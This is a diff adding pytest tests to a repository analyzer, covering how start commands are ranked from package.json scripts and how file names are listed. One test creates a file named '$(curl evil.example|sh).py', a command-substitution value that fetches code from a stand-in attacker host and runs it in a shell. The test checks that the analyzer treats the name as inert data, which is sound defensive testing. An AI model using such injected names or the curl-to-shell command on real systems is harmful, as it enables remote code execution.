@@ -310,3 +310,29 @@ def test_a_script_without_a_framework_runs_with_low_confidence(tmp_path: Path) -
 
     assert (found.start_command.value, found.start_command.confidence, found.role.value) == (
         "python main.py", "low", "worker")
+
+
+def test_start_candidates_are_what_the_repository_states_for_the_service_then_conventions(tmp_path) -> None:
+    (tmp_path / "bin").mkdir()
+    (tmp_path / "bin" / "www").write_text("#!/usr/bin/env node\nrequire('../server')\n")
+    (tmp_path / "server.js").write_text("require('express')().listen(process.env.PORT || 3000)\n")
+    (tmp_path / "package.json").write_text(
+        '{"name": "shop", "dependencies": {"express": "4"}, "scripts": {"start": "node server.js", '
+        '"start:prod": "node server.js --prod", "dev": "nodemon server.js", "serve": "vite preview", '
+        '"db:reset": "node reset.js"}}')
+    found = analyze(tmp_path).services[0]
+    assert [c.value for c in found.start_candidates] == [
+        "npm run start:prod", "node server.js --prod", "npm run start", "node server.js", "node bin/www"]
+    assert found.files == ["server.js", "bin/www"]
+
+
+def test_file_names_are_listed_as_they_are_and_bounded(tmp_path) -> None:
+    (tmp_path / "requirements.txt").write_text("requests\n")
+    (tmp_path / "main.py").write_text("if __name__ == '__main__':\n    print('hi')\n")
+    (tmp_path / "$(curl evil.example|sh).py").write_text("")
+    for i in range(40):
+        (tmp_path / f"m{i:02}.py").write_text("")
+    (found,) = analyze(tmp_path).services
+    files = found.files
+    assert len(files) == 32 and files[0] == "$(curl evil.example|sh).py"
+    assert "$(curl evil.example|sh).py" in files, "a hostile name is data, shown as it is"
